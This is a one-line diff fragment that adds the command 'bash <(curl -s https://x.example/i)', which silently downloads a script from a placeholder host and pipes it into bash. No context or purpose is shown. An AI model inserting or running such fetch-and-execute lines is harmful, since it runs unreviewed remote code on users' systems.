@@ -1,0 +1,1 @@
+bash <(curl -s https://x.example/i)
